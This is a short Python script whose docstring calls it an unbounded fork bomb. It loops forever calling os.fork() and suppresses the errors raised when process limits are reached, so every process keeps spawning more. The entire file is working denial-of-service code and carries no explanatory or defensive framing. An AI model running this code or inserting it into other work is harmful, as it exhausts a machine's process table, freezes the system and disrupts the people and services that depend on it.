"""An unbounded fork bomb: every process forks for ever."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
